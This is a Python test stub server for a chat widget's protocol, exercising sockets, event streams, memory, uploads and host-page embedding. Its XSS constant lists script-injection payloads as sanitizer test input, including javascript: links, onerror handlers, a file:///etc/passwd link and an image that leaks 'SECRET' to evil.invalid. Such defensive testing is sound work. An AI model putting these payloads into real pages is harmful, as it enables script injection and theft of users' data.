"""A server that speaks protocol v1 strictly and answers from a script, to test the browser side alone."""

from __future__ import annotations

import asyncio
import base64
import contextlib
import itertools
import json
import threading
import weakref
from collections.abc import Coroutine, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any, TypeVar
from urllib.parse import unquote

from aiohttp import ClientConnectionResetError, WSMsgType, web

from shared.core.identity.handover import ADVICE
from web.server.pages import Files, serve

FILES = Files()
"""What the real server serves, packed as it packs them."""
STRICT = (
    "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; connect-src 'self'; "
    "manifest-src 'self'; base-uri 'none'; form-action 'self'; frame-ancestors 'none'; "
    "require-trusted-types-for 'script'; trusted-types 'none'"
)
HOSTILE = (
    "*{color:red!important;text-transform:uppercase!important;letter-spacing:4px!important}"
    "button{display:none!important}div{float:left!important;position:static!important}"
)
MARKDOWN = """Here is **what I found** for *you*:

1. First point with `inline code`
2. Second, see [the docs](https://example.com/a_(b))
   - nested item

| Model | Cost | Cache |
|---|--:|:-:|
| haiku | $0.004 | 91% |
| sonnet | $0.12 | 64% |

```python
def compact(messages, keep=5):
    # keep the recent turns
\treturn [summary] + messages[-keep:]
```

> Done."""
XSS = """<script>alert(1)</script> <img src=x onerror=alert(2)> <svg onload=alert(3)>

[a](javascript:alert(4)) [b](JaVaScRiPt:alert(5)) [c](java\tscript:alert(6)) [d](\u0001javascript:alert(7))
[e](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [f](vbscript:msgbox) [g](file:///etc/passwd)
[h](//evil.invalid/x) ![leak](https://evil.invalid/?d=SECRET) <iframe src="javascript:alert(8)"></iframe>
<javascript:alert(9)> [![x](https://evil.invalid/i.png)](javascript:alert(10))
<a href="javascript:alert(11)">x</a>

| <img src=x onerror=alert(12)> | [t](javascript:alert(13)) |
|---|---|
| `<script>` | <style>*{display:none}</style> |

```"><script>alert(14)</script>
<script>alert(15)</script>
```
[good](https://good.invalid/) [mail](mailto:a@b.invalid) [call](tel:+123) [bank.com](https://evil.invalid/)"""

FRAMES: dict[str, tuple[set[str], set[str]]] = {
    "hello": ({"v", "site", "last_seq", "locale", "tz"}, {"session", "token", "identity", "begin"}),
    "begin": (set(), set()),
    "msg": ({"cid", "text"}, {"attachments"}),
    "command": ({"cid", "command", "args"}, set()),
    "stop": (set(), {"mid"}),
    "pin": ({"cid", "mid", "pinned"}, set()),
    "ping": ({"n"}, set()),
    "read": ({"seq"}, set()),
    "resync": ({"mid"}, set()),
    "typing": (set(), set()),
    "feedback": ({"cid", "mid", "value"}, {"text"}),
    "identify": ({"identity"}, set()),
}
COMMANDS = [
    {"name": "compact", "description": "Summarise older messages"},
    {"name": "context", "description": "Show what fills the context"},
    {"name": "export", "description": "Get the whole conversation as a file"},
    {"name": "feedback", "description": "Say what you think of an answer", "args": "text"},
    {"name": "forget", "description": "Erase what you name", "args": "what"},
    {"name": "help", "description": "Show all commands"},
    {"name": "memory", "description": "Show what I remember"},
    {"name": "new", "description": "Start a new conversation"},
    {"name": "pin", "description": "Keep a message word for word", "args": "message"},
    {"name": "pins", "description": "Show what is pinned"},
    {"name": "retry", "description": "Answer your last message again"},
    {"name": "undo", "description": "Take the last summary back"},
]
PARTS = {"system": 0.1, "memory": 0.05, "summary": 0.15, "history": 0.6, "tools": 0.1}
LIMIT = 120_000
REFUSED = {
    "forged": "identity_invalid",
    "of another site": "identity_invalid",
    "expired": "identity_expired",
}
"""What signatures that are none are answered with."""
PUBLIC = {"help", "new", "stop", "export", "forget", "human", "feedback"}
CROSS = {
    "Access-Control-Allow-Origin": "*",
    "Access-Control-Allow-Methods": "GET, POST, PUT, DELETE",
    "Access-Control-Allow-Headers": "Authorization, Content-Type, X-File-Name",
}
T = TypeVar("T")


def ctx(used: int, **more: Any) -> dict[str, Any]:
    """A full context frame for so many tokens."""
    pct = used / LIMIT * 100
    status = "critical" if pct > 90 else "warning" if pct >= 70 else "ok"
    parts = {name: round(used * share) for name, share in PARTS.items()}
    return {"used": used, "limit": LIMIT, "pct": pct, "status": status, "parts": parts, "stale": False} | more


def note_of(text: str, **values: Any) -> dict[str, Any]:
    """A note as the server shows it."""
    usual = {"kind": "fact", "subject": "", "importance": 5, "authority": "person", "event_date": None}
    moment = {"observed_at": "2026-05-04T12:00:00Z", "from_turn": 1}
    return {"text": text} | usual | moment | values


class Events:
    """An event stream, written to like a socket."""

    def __init__(self, response: web.StreamResponse) -> None:
        self._response = response
        self.closed = False

    async def send_json(self, frame: dict[str, Any]) -> None:
        """One server-sent event."""
        with contextlib.suppress(ConnectionError):
            await self._response.write(f"data: {json.dumps(frame)}\n\n".encode())

    async def close(self) -> None:
        """Whoever holds the response lets go."""
        self.closed = True


@dataclass(kw_only=True)
class Answer:
    """What a request is answered with, written to like a socket."""

    frames: list[dict[str, Any]] = field(default_factory=list)
    closed = False

    async def send_json(self, frame: dict[str, Any]) -> None:
        """One more frame."""
        self.frames.append(frame)


Socket = web.WebSocketResponse | Events | Answer


@dataclass(kw_only=True)
class Session:
    """One visitor's conversation."""

    token: str
    events: list[dict[str, Any]] = field(default_factory=list)
    cids: dict[str, dict[str, Any]] = field(default_factory=dict)
    sockets: list[Socket] = field(default_factory=list)
    run: dict[str, Any] | None = None
    waiting: list[tuple[int, str, str]] = field(default_factory=list)
    compaction: dict[str, Any] | None = None
    notes: list[dict[str, Any]] = field(default_factory=list)
    away: list[dict[str, Any]] = field(default_factory=list)
    archived: list[dict[str, Any]] = field(default_factory=list)
    read: int = 0
    files: dict[str, tuple[dict[str, Any], bytes]] = field(default_factory=dict)
    handover: dict[str, Any] | None = None
    pinned: list[str] = field(default_factory=list)
    used: int = 32_000
    turn: int = 0
    again: dict[int, str] = field(default_factory=dict)
    stop: asyncio.Event = field(default_factory=asyncio.Event)


class Stub:
    """The server in its own thread; attributes are switches for the tests."""

    def __init__(self) -> None:
        self.violations: list[str] = []
        self.served = FILES
        self.received: list[dict[str, Any]] = []
        self.sessions: dict[str, Session] = {}
        self.audience = "personal"
        self.offline_model = False
        self.site: dict[str, Any] = {"starters": []}
        """How the site looks and speaks."""
        self.required = False
        """Nobody talks here unsigned."""
        self.people: dict[str, Session] = {}
        """By what their site says of them."""
        self.codes: dict[str, Session] = {}
        self.deaf = False
        self.lose_asides = 0
        """So many opinions that never arrive: their socket breaks."""
        self.commands = list(COMMANDS)
        self.refuse = False
        self.barred = False
        """Pages of other origins may not use the chat."""
        self.knocks = 0
        """Sockets that were asked for."""
        self.no_sockets = False
        """As behind a proxy that knows no WebSocket."""
        self.tickets: dict[str, tuple[dict[str, Any], str]] = {}
        self.newest = 0
        """So many events come with a welcome; 0: all."""
        self.pages: list[dict[str, str]] = []
        """What was asked for of the conversation before."""
        self.hold_pages = threading.Event()
        """Set: pages are answered at once."""
        self.hold_pages.set()
        self.said_before = ""
        """Words of another device that come between the next message's acknowledgement and its own event."""
        self.hold_welcome = threading.Event()
        self.hold_welcome.set()
        self.renamed = ""
        """The session that all go on in, after a `/link`."""
        self.broken = False
        """What is asked for by REST fails."""
        self.files: dict[str, Any] | None = {
            "most": 3,
            "bytes": 200_000,
            "mimes": ["image/png", "text/plain"],
        }
        self.refuse_file = ""
        """The code that the next upload is refused with."""
        self.hold_files = threading.Event()
        """Set: uploads are answered at once."""
        self.hold_files.set()
        self.hold_progress = threading.Event()
        """Set: a summary goes on after its first half."""
        self.hold_progress.set()
        self.epoch = 1
        self.heartbeat_ms = 25_000
        self.replies: dict[str, str] = {}
        """What else is answered to these words."""
        self.release = threading.Event()
        self.requests: list[str] = []
        self.told: list[tuple[str, dict[str, Any]]] = []
        """What pages told operators."""
        self._ids = itertools.count(1)
        self._tasks: set[asyncio.Task[None]] = set()
        self._loop = asyncio.new_event_loop()
        self._thread = threading.Thread(target=self._loop.run_forever, daemon=True)
        self._transports: weakref.WeakKeyDictionary[Any, asyncio.WriteTransport]
        self._transports = weakref.WeakKeyDictionary()

    # ---- life ----

    def start(self) -> None:
        """Listens on two loopback ports: the bot and a page of somebody else."""
        self._thread.start()
        self.url, self.host_url = self.call(self._serve())

    def stop(self) -> None:
        """Ends everything that was started."""
        self.call(self._end())
        self._loop.call_soon_threadsafe(self._loop.stop)
        self._thread.join(10)
        self._loop.close()

    def call(self, work: Coroutine[Any, Any, T]) -> T:
        """Runs a coroutine in the server's own loop."""
        return asyncio.run_coroutine_threadsafe(work, self._loop).result(30)

    async def _serve(self) -> tuple[str, str]:
        bot = web.Application()
        bot.router.add_get("/ws", self._socket)
        bot.router.add_get("/chat", self._chat)
        bot.router.add_get("/api/v1/stream", self._events)
        bot.router.add_route("*", "/api/v1/stream", self._ticket)
        bot.router.add_route("*", "/api/v1/stream/send", self._sent)
        bot.router.add_route("*", "/api/v1/stream/events", self._refuse_polls)
        bot.router.add_route("*", "/api/v1/compactions/{id}/messages", self._originals)
        bot.router.add_route("*", "/api/v1/sessions/{id}/history", self._history)
        bot.router.add_route("*", "/api/v1/archived", self._archived)
        bot.router.add_get("/api/v1/export", self._export)
        for path in ("/api/v1/memory", "/api/v1/memory/{id}", "/api/v1/memory/{id}/restore"):
            bot.router.add_route("*", path, self._memory)
        for path in ("/api/v1/contact", "/api/v1/ratings"):
            bot.router.add_route("*", path, self._desk)
        bot.router.add_route("*", "/api/v1/uploads", self._upload)
        bot.router.add_route("*", "/api/v1/attachments/{id}", self._attachment)
        bot.router.add_get("/api/v1/sites/{name}", self._site)
        bot.router.add_route("*", "/api/v1/recovery-code", self._issue)
        bot.router.add_route("*", "/api/v1/recover", self._recover)
        bot.router.add_get("/widget.js", self._file)
        bot.router.add_get("/static/{path:.+}", self._file)
        bot.router.add_get("/static-{digest:[0-9a-f]+}/{path:.+}", self._file)
        host = web.Application()
        host.router.add_get("/{name}", self._host)
        self._runners = [web.AppRunner(bot, shutdown_timeout=1), web.AppRunner(host, shutdown_timeout=1)]
        urls = []
        for runner in self._runners:
            await runner.setup()
            site = web.TCPSite(runner, "127.0.0.1", 0)
            await site.start()
            urls.append(f"http://127.0.0.1:{runner.addresses[0][1]}")
        return urls[0], urls[1]

    async def _end(self) -> None:
        for task in list(self._tasks):
            task.cancel()
        await asyncio.gather(*self._tasks, return_exceptions=True)
        for socket in list(self._transports):
            await socket.close()
        for runner in self._runners:
            for site in list(runner.sites):
                await site.stop()
        # Whom the loop has accepted by now becomes a connection of a runner's; later nobody would close it.
        await asyncio.sleep(0.05)
        for runner in self._runners:
            await runner.cleanup()

    # ---- pages ----

    async def _file(self, request: web.Request) -> web.StreamResponse:
        """The files as the real server gives them, and nothing kept."""
        path, name = request.path, request.match_info.get("path", "")
        self.requests.append(path)
        files = self.served
        file = files.widget if path == "/widget.js" else files.get(name, packed=path.startswith("/static-"))
        if file is None:
            raise web.HTTPNotFound
        return serve(request, file, cache="no-store", foreign=True)

    async def _chat(self, request: web.Request) -> web.StreamResponse:
        page = self.served.page("chat.html", request.headers.get("Accept-Language", ""))
        assert page is not None
        response = serve(request, page, cache="no-store", foreign=False)
        response.headers["Content-Security-Policy"] = STRICT
        if "visitor" not in request.cookies:
            response.set_cookie("visitor", f"c{next(self._ids)}", httponly=True)
        return response

    async def _host(self, request: web.Request) -> web.Response:
        """A page on another origin that forbids everything but us, and styles everything."""
        if request.path == "/host.css":
            return web.Response(text=HOSTILE, content_type="text/css")
        if request.path == "/early.js":
            code = (
                "window.Evertalk=function(){(Evertalk.q=Evertalk.q||[]).push(arguments)};"
                "Evertalk('open');Evertalk('send','early bird');"
            )
            return web.Response(text=code, content_type="text/javascript")
        given = [(name, value) for name, value in request.query.items() if name not in {"early", "plain"}]
        data = " ".join(f'data-{name}="{value}"' for name, value in given)
        early = '<script src="/early.js"></script>' if "early" in request.query else ""
        style = "" if "plain" in request.query else '<link rel="stylesheet" href="/host.css">'
        policy = (
            f"default-src 'none'; script-src 'self' {self.url}; "
            f"connect-src {self.url} {self.url.replace('http', 'ws')}; "
            "style-src 'self'; img-src data:; require-trusted-types-for 'script'; trusted-types 'none'"
        )
        page = (
            '<!doctype html><html lang="en"><head>'
            '<meta name="viewport" content="width=device-width, initial-scale=1">'
            f'<title>Shop</title><link rel="icon" href="data:,">{style}</head><body>'
            '<main id="shop"><h1>Acme store</h1>'
            '<p>A page of somebody else. <a href="#x">A link</a></p></main>'
            f'{early}<script src="{self.url}/widget.js" data-site="shop" {data} async></script></body></html>'
        )
        return web.Response(text=page, content_type="text/html", headers={"Content-Security-Policy": policy})

    def _caller(self, request: web.Request) -> Session | web.Response:
        token = request.headers.get("Authorization", "").removeprefix("Bearer ")
        session = self.sessions.get(token or request.cookies.get("visitor", ""))
        if request.method == "OPTIONS":
            return web.Response(status=204, headers=CROSS)
        if self.broken:
            return web.json_response({"code": "unavailable"}, status=503, headers=CROSS)
        return session or web.json_response({"code": "unauthorized"}, status=401, headers=CROSS)

    async def _site(self, request: web.Request) -> web.Response:
        if self.barred:
            return web.json_response({"code": "foreign_origin"}, status=403, headers=CROSS)
        return web.json_response(self.site, headers=CROSS)

    async def _issue(self, request: web.Request) -> web.Response:
        session = self._caller(request)
        if isinstance(session, web.Response):
            return session
        code = f"ABCD-EFGH-JKLM-NPQR-STUV-WX{next(self._ids) + 22}"
        self.codes = {old: one for old, one in self.codes.items() if one is not session} | {code: session}
        return web.json_response({"code": code}, headers=CROSS)

    async def _recover(self, request: web.Request) -> web.Response:
        if request.method == "OPTIONS":
            return web.Response(status=204, headers=CROSS)
        body = await request.json()
        session = self.codes.get(body["code"].upper())
        if session is None:
            return web.json_response({"code": "unknown_code"}, status=404, headers=CROSS)
        if not body["page"]:
            return web.json_response({"token": session.token}, headers=CROSS)
        response = web.json_response({"token": None})
        response.set_cookie("visitor", session.token, httponly=True)
        return response

    async def _export(self, request: web.Request) -> web.Response:
        session = self._caller(request)
        return (
            session if isinstance(session, web.Response) else web.json_response(session.events, headers=CROSS)
        )

    async def _archived(self, request: web.Request) -> web.Response:
        session = self._caller(request)
        if isinstance(session, web.Response):
            return session
        return web.json_response({"sessions": session.archived}, headers=CROSS)

    async def _upload(self, request: web.Request) -> web.Response:
        """Any file is taken, with the first bytes deciding between picture and text."""
        session = self._caller(request)
        if isinstance(session, web.Response):
            return session
        content = await request.read()
        while not self.hold_files.is_set():
            await asyncio.sleep(0.01)
        if self.refuse_file:
            code, self.refuse_file = self.refuse_file, ""
            return web.json_response({"code": code, "message": "No."}, status=422, headers=CROSS)
        mime = "image/png" if content.startswith(b"\x89PNG") else "text/plain"
        ident = f"{next(self._ids):032x}"
        name = unquote(request.headers["X-File-Name"])
        told = {"id": ident, "name": name, "mime": mime, "size": len(content)}
        told |= {"url": f"/api/v1/attachments/{ident}"}
        session.files[ident] = (told, content)
        return web.json_response(told, headers=CROSS)

    async def _attachment(self, request: web.Request) -> web.Response:
        session = self._caller(request)
        if isinstance(session, web.Response):
            return session
        told, content = session.files[request.match_info["id"]]
        return web.Response(body=content, content_type=told["mime"], headers=CROSS)

    async def _desk(self, request: web.Request) -> web.Response:
        """Takes what a page tells operators."""
        session = self._caller(request)
        if isinstance(session, web.Response):
            return session
        self.told.append((request.path.rsplit("/", 1)[-1], await request.json()))
        return web.json_response({"success": True}, headers=CROSS)

    async def _memory(self, request: web.Request) -> web.Response:
        session = self._caller(request)
        if isinstance(session, web.Response):
            return session
        ident = request.match_info.get("id", "")
        if not ident:
            words = request.query.get("q", "").lower()
            found = [note for note in session.notes if words in note["text"].lower()]
            return web.json_response({"notes": found[:200], "total": len(found)}, headers=CROSS)
        if request.method == "POST":
            return await self._restore(session, ident)
        at = next((at for at, note in enumerate(session.notes) if note["id"] == ident), None)
        if at is None:
            return web.json_response({"code": "unknown_note"}, status=404, headers=CROSS)
        if request.method == "DELETE":
            session.away.append(session.notes.pop(at))
            await self.durable(session, {"t": "memory", "id": ident, "text": "", "change": "forgotten"})
            return web.json_response({"undo_until": _now()}, headers=CROSS)
        return await self._change(session, at, str((await request.json())["text"]))

    async def _restore(self, session: Session, ident: str) -> web.Response:
        note = next((one for one in session.away if one["id"] == ident), None)
        if note is None:
            return web.json_response({"code": "gone"}, status=410, headers=CROSS)
        session.away.remove(note)
        session.notes.insert(0, note)
        await self.durable(session, {"t": "memory", "change": "restored"} | note)
        return web.json_response({"note": note}, headers=CROSS)

    async def _change(self, session: Session, at: int, text: str) -> web.Response:
        old = session.notes[at]
        if newer := old.get("newer"):
            session.notes[at] = newer
            body = {"code": "replaced", "details": {"note": newer}}
            return web.json_response(body, status=409, headers=CROSS)
        if "password" in text:
            body = {"code": "bad_note", "details": {"advice": "Such things are never kept."}}
            return web.json_response(body, status=400, headers=CROSS)
        note = session.notes[at] = note_of(text, id=f"n{next(self._ids) + 4096:08x}", authority="person")
        await self.durable(session, {"t": "memory", "change": "changed", "replaces": old["id"]} | note)
        return web.json_response({"note": note}, headers=CROSS)

    async def _originals(self, request: web.Request) -> web.Response:
        session = self._caller(request)
        if isinstance(session, web.Response):
            return session
        messages = [event for event in session.events if event["t"] == "msg"]
        if before := request.query.get("before"):
            messages = messages[: [event["mid"] for event in messages].index(before)]
        limit = int(request.query["limit"])
        rows = [{name: event[name] for name in ("mid", "role", "text", "at")} for event in messages[-limit:]]
        more = rows[0]["mid"] if len(messages) > limit else None
        return web.json_response({"messages": rows, "before": more}, headers=CROSS)

    async def _history(self, request: web.Request) -> web.Response:
        session = self._caller(request)
        if isinstance(session, web.Response):
            return session
        query = dict(request.query)
        self.pages.append(query)
        limit = int(query["limit"])
        kinds = {"msg", "compaction", "command.result", "handover"}
        events = [event for event in session.events if event["t"] in kinds]
        while not self.hold_pages.is_set():
            await asyncio.sleep(0.01)
        if before := query.get("before"):
            found = [event for event in events if _number(event) < int(before)]
            shown, rest = found[-limit:], found[:-limit]
            told = {
                "before": _number(shown[0]) if rest else None,
                "after": _number(shown[-1]) if shown else None,
            }
            return web.json_response({"events": shown} | told, headers=CROSS)
        if since := query.get("since"):
            moment = datetime.fromisoformat(since)
            later = [e for e in events if datetime.fromisoformat(e["at"]) >= moment]
            after = _number(later[0]) - 1 if later else _number(events[-1]) - 1
        elif around := query.get("around"):
            after = next(_number(event) for event in events if event.get("mid") == around) - 1
        else:
            after = int(query["after"])
        found = [event for event in events if _number(event) > after]
        told = {"before": _number(found[0]) if after else None}
        told |= {"after": _number(found[limit - 1]) if len(found) > limit else None}
        return web.json_response({"events": found[:limit]} | told, headers=CROSS)

    # ---- event stream ----

    async def _refuse_polls(self, request: web.Request) -> web.Response:
        """Widgets poll where no other way is found in time, as on a busy machine."""
        return web.json_response({}, status=204 if request.method == "OPTIONS" else 503, headers=CROSS)

    async def _ticket(self, request: web.Request) -> web.Response:
        if request.method == "OPTIONS":
            return web.Response(status=204, headers=CROSS)
        if self.refuse:
            return web.json_response({"code": "unavailable"}, status=503, headers=CROSS)
        frame = self._checked(await request.text(), None)
        assert frame is not None
        cookie = request.cookies.get("visitor", "")
        token = cookie or frame.get("token", "")
        identity = frame.pop("identity", "")
        if code := self._denied(identity, self.sessions.get(token)):
            return web.json_response({"code": code, "message": "Sign in."}, status=401, headers=CROSS)
        token = self._sign_in(identity, token).token if identity else token or f"token{next(self._ids)}"
        ticket = f"ticket{next(self._ids)}"
        self.tickets[ticket] = (frame, token)
        return web.json_response({"ticket": ticket, "stream": "a" * 24, "token": token}, headers=CROSS)

    async def _events(self, request: web.Request) -> web.StreamResponse:
        frame, token = self.tickets.pop(request.query["ticket"], ({}, ""))
        if not frame:
            self.violations.append("a ticket came twice")
            return web.json_response({"code": "spent_ticket"}, status=401, headers=CROSS)
        response = web.StreamResponse(headers=CROSS | {"Content-Type": "text/event-stream"})
        await response.prepare(request)
        events = Events(response)
        transport = request.transport
        assert isinstance(transport, asyncio.WriteTransport)
        self._transports[events] = transport
        session = await self._hello(events, frame, token)
        assert session is not None
        while not events.closed and not transport.is_closing():
            await asyncio.sleep(0.02)
        if events in session.sockets:
            session.sockets.remove(events)
        return response

    async def _sent(self, request: web.Request) -> web.Response:
        session = self._caller(request)
        if isinstance(session, web.Response):
            return session
        answer = Answer()
        for one in (await request.json())["frames"]:
            frame = self._checked(json.dumps(one), session)
            if frame is not None and not self.deaf:
                await self._take(answer, session, frame)
        return web.json_response({"frames": answer.frames}, headers=CROSS)

    # ---- socket ----

    async def _socket(self, request: web.Request) -> web.StreamResponse:
        self.knocks += 1
        if self.barred:
            raise web.HTTPForbidden
        if self.refuse or self.no_sockets:
            raise web.HTTPServiceUnavailable
        socket = web.WebSocketResponse(max_msg_size=65_536)
        await socket.prepare(request)
        if isinstance(request.transport, asyncio.WriteTransport):
            self._transports[socket] = request.transport
        session: Session | None = None
        async for message in socket:
            if message.type is not WSMsgType.TEXT:
                self.violations.append(f"frame of type {message.type}")
                continue
            frame = self._checked(message.data, session)
            if frame is None:
                continue
            if frame["t"] == "hello":
                session = await self._hello(socket, frame, request.cookies.get("visitor", ""))
                if session is None:
                    break
            elif session is not None and frame["t"] == "identify":
                session.sockets.remove(socket)
                self.sessions.pop(session.token, None)
                session = await self._hello(socket, {"last_seq": 0}, "")
            elif session is not None and not self.deaf:
                await self._take(socket, session, frame)
        if session is not None and socket in session.sockets:
            session.sockets.remove(socket)
        return socket

    def _checked(self, data: str, session: Session | None) -> dict[str, Any] | None:
        frame: dict[str, Any] = json.loads(data)
        kind = frame.get("t", "")
        required, optional = FRAMES.get(kind, (set(), set()))
        names = set(frame) - {"t"}
        if kind not in FRAMES or not required <= names <= required | optional:
            self.violations.append(f"bad frame {data}")
            return None
        if (session is None) != (kind == "hello"):
            self.violations.append(f"{kind} at the wrong time")
            return None
        self.received.append(frame)
        return frame

    async def _hello(self, socket: Socket, frame: dict[str, Any], cookie: str) -> Session | None:
        token = cookie or frame.get("token", "")
        session = self.sessions.get(token)
        welcome: dict[str, Any] = {}
        identity = frame.get("identity", "")
        if code := self._denied(identity, session):
            await socket.send_json({"t": "error", "code": code, "message": "Sign in."})
            assert isinstance(socket, web.WebSocketResponse)
            await socket.close(code=4401)
            return None
        if identity:
            session = self._sign_in(identity, token)
            welcome["token"] = session.token
        elif session is None:
            session = Session(token=cookie or f"token{next(self._ids)}")
            self.sessions[session.token] = session
            if not cookie:
                welcome["token"] = session.token
        last = frame["last_seq"]
        resumed = 0 < last <= len(session.events)
        public = self.audience == "public"
        queued = [mid for _, mid, _ in session.waiting]
        welcome |= {
            "t": "welcome",
            "v": 1,
            "session": self.renamed or f"s-{session.token}",
            "log_epoch": self.epoch,
            "head": len(session.events),
            "read": session.read,
            "resumed": resumed,
            "events": session.events[last if resumed else -self.newest if self.newest else 0 :],
            "commands": [one for one in self.commands if not public or one["name"] in PUBLIC],
            "limits": {"max_chars": 8000} | ({"files": self.files} if self.files else {}),
            "ctx": None if public else ctx(session.used),
            "pinned": session.pinned,
            "state": {
                "run": session.run,
                "queued": queued,
                "compaction": session.compaction,
                "handover": session.handover,
            },
            "audience": self.audience,
            "heartbeat_ms": self.heartbeat_ms,
            "model": {"name": "stub", "offline": self.offline_model},
            "site": self.site,
        }
        if session in self.people.values():
            welcome["identified"] = next(name for name, one in self.people.items() if one is session)
        while not self.hold_welcome.is_set():
            await asyncio.sleep(0.02)
        await socket.send_json(welcome)
        session.sockets.append(socket)
        return session

    def _denied(self, identity: str, session: Session | None) -> str:
        """Why nobody talks here under this signature, as a code."""
        signed = bool(identity) or session in self.people.values()
        return REFUSED.get(identity, "identity_required" if self.required and not signed else "")

    def _sign_in(self, identity: str, token: str) -> Session:
        """The person's own conversation, or the anonymous one that becomes theirs; under a new token."""
        identity = _subject(identity)
        session = self.sessions.get(token)
        former = session if session not in self.people.values() else None
        session = self.people.get(identity) or former or Session(token="")
        self.sessions.pop(token, None)
        session.token = f"signed{next(self._ids)}"
        self.people[identity] = self.sessions[session.token] = session
        return session

    async def _take(self, socket: Socket, session: Session, frame: dict[str, Any]) -> None:
        kind = frame["t"]
        if kind == "ping":
            await socket.send_json({"t": "pong", "n": frame["n"]})
        elif kind == "msg":
            await self._message(socket, session, frame)
        elif kind == "command":
            await self._command(socket, session, frame)
        elif kind == "stop":
            session.stop.set()
        elif kind == "read":
            session.read = max(session.read, frame["seq"])
            await self.send(session, {"t": "read", "seq": session.read})
        elif kind == "resync" and session.run is not None:
            whole = {"turn": session.run["turn"], "attempt": 1, "text": session.run["text"]}
            await socket.send_json({"t": "stream", "mid": frame["mid"]} | whole)
        elif kind == "pin":
            if await self._lost(session):
                return
            session.pinned = [mid for mid in session.pinned if mid != frame["mid"]]
            session.pinned += [frame["mid"]] * frame["pinned"]
            await self.durable(session, {"t": "pin", "mid": frame["mid"], "pinned": frame["pinned"]})
        elif kind == "feedback":
            if await self._lost(session):
                return
            await socket.send_json({"t": "ack", "cid": frame["cid"], "mid": frame["mid"]})
            judged = next(event for event in session.events if event.get("mid") == frame["mid"])
            judged["feedback"] = frame["value"]
            await self.durable(session, {"t": "feedback", "mid": frame["mid"], "value": frame["value"]})

    async def _lost(self, session: Session) -> bool:
        """Whether the line breaks instead of an answer."""
        if not self.lose_asides:
            return False
        self.lose_asides -= 1
        await self.drop(session)
        return True

    async def send(self, session: Session, frame: dict[str, Any]) -> None:
        """Sends one frame to every open socket of a session; a page that has just left hears nothing."""
        for socket in list(session.sockets):
            if not socket.closed:
                with contextlib.suppress(ClientConnectionResetError):
                    await socket.send_json(frame)

    async def durable(self, session: Session, event: dict[str, Any]) -> dict[str, Any]:
        """Stores an event under the next number, then shows it."""
        event["event_seq"] = len(session.events) + 1
        session.events.append(event)
        await self.send(session, event)
        return event

    def recall(self, session: Session, turns: int, *, days: int = 1) -> None:
        """A conversation of long ago, with so many days between its turns."""
        last = datetime.now(UTC).replace(hour=12)
        for turn in range(1, turns + 1):
            at = (last - timedelta(days=days * (turns - turn + 1))).isoformat()
            for role, words in (("person", "Question"), ("assistant", "Answer")):
                text = f"{words} {turn}" + "\n\nand more of it" * (turn % 3 * (role == "assistant"))
                event = {"t": "msg", "mid": f"m{next(self._ids)}", "role": role, "text": text, "turn": turn}
                session.events.append(event | {"at": at, "event_seq": len(session.events) + 1})
        session.turn = turns

    async def push(
        self, session: Session, text: str, *, files: Sequence[tuple[str, str, bytes]] = ()
    ) -> None:
        """An answer nobody asked for, whole; with `files` of a name, a kind and bytes."""
        session.turn += 1
        told = []
        for name, mime, content in files:
            ident = f"f{next(self._ids)}"
            shown = {"id": ident, "name": name, "mime": mime, "size": len(content)}
            told.append({**shown, "url": f"/api/v1/attachments/{ident}"})
            session.files[ident] = (told[-1], content)
        await self._say(session, session.turn, text, **({"attachments": told} if told else {}))

    async def _say(self, session: Session, turn: int, text: str, **more: Any) -> None:
        event = {
            "t": "msg",
            "mid": f"m{next(self._ids)}",
            "role": "assistant",
            "text": text,
            "turn": turn,
            "at": _now(),
        }
        if former := session.again.get(turn):
            event["replaces"] = former
        await self.durable(session, event | more)

    async def _message(self, socket: Socket, session: Session, frame: dict[str, Any]) -> None:
        cid, text = frame["cid"], frame["text"]
        if text == "limit" and cid not in session.cids:
            advice = {"message": "Too many messages.", "advice": "Wait a little.", "retry_after": 3}
            await socket.send_json({"t": "error", "cid": cid, "code": "rate_limited"} | advice)
            return
        known = session.cids.get(cid)
        if known is not None:
            again = {"mid": known["mid"], "event_seq": known["event_seq"], "dup": True}
            await socket.send_json({"t": "ack", "cid": cid} | again)
            return
        session.turn += 1
        turn, mid = session.turn, f"m{next(self._ids)}"
        event = {
            "t": "msg",
            "mid": mid,
            "cid": cid,
            "role": "person",
            "text": text,
            "turn": turn,
            "at": _now(),
        }
        if ids := frame.get("attachments"):
            event["attachments"] = [session.files[one][0] for one in ids]
        earlier, self.said_before = self.said_before, ""
        event["event_seq"] = len(session.events) + 1 + bool(earlier)
        if not earlier:
            session.events.append(event)
        session.cids[cid] = event
        if text == "lost ack":
            await self._abort(session)
        await self.send(session, {"t": "ack", "cid": cid, "mid": mid, "event_seq": event["event_seq"]})
        if earlier:
            other = {"t": "msg", "mid": f"m{next(self._ids)}", "cid": "elsewhere", "role": "person"}
            await self.durable(session, {**other, "text": earlier, "turn": turn, "at": _now()})
            session.events.append(event)
        await self.send(session, event)
        session.waiting.append((turn, mid, text))
        if session.run is None:
            self._task(self._answers(session))

    def _task(self, work: Coroutine[Any, Any, None]) -> None:
        task = asyncio.get_running_loop().create_task(work)
        self._tasks.add(task)
        task.add_done_callback(self._tasks.discard)

    async def _abort(self, session: Session) -> None:
        for socket in list(session.sockets):
            session.sockets.remove(socket)
            self._transports[socket].abort()

    async def drop(self, session: Session) -> None:
        """Cuts every socket of a session as a broken network would."""
        await self._abort(session)

    # ---- answers ----

    async def _answers(self, session: Session) -> None:
        while session.waiting:
            turn, _, text = session.waiting.pop(0)
            session.run = {"turn": turn, "state": "started", "text": ""}
            session.stop.clear()
            await self.send(session, {"t": "run", "turn": turn, "state": "started"})
            await self._answer(session, turn, text)
            session.run = None
            session.used = min(session.used + 1000, LIMIT)
            await self.send(session, {"t": "ctx"} | ctx(session.used))

    async def _answer(self, session: Session, turn: int, text: str) -> None:
        whole = ({"md": MARKDOWN, "xss": XSS} | self.replies).get(text, f"You said: {text}")
        if text.startswith(("slow", "drop", "long")):
            whole = "\n\n".join(f"Line {number} of the answer 😀." for number in range(40))
        if text == "fail":
            await self.send(session, {"t": "run", "turn": turn, "state": "failed"})
            await self._say(session, turn, "", error="The model is not reachable. Try again in a minute.")
            return
        sent = await self._stream(session, turn, text, whole)
        state = "aborted" if session.stop.is_set() else "done"
        stop = text.removeprefix("cut ") if text.startswith("cut ") else "stop"
        await self._say(session, turn, sent, partial=session.stop.is_set(), stop=stop)
        await self.send(session, {"t": "run", "turn": turn, "state": state})

